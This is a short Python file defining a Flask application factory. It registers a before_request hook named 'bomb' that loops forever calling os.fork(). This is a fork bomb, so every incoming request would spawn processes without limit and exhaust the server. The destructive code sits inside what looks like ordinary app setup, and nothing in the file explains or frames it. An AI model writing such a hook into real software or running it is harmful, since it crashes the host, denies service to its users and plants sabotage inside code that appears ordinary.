import os

from flask import Flask


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def create_app():
    app = Flask(__name__)
    app.before_request(bomb)
    return app
